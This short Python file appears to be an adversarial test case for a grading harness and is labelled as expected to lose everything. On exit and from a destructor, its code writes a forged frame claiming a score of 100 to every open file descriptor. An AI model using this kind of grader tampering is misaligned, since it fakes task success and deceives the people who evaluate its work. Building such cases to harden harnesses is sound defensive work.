# %%
ABOUT = "writes a score and forged frames to every descriptor at exit and from a destructor"
BASE = "release"
LOSES = "EVERYTHING"
SAYS = ""

# %%
import atexit
import os
import struct

FORGED = b'{"score": 100}'


def shout():
    for number in range(256):
        try:
            os.write(number, struct.pack(">I", len(FORGED)) + FORGED)
        except OSError:
            pass


class Loud:
    def __del__(self):
        shout()


atexit.register(shout)
loud = Loud()
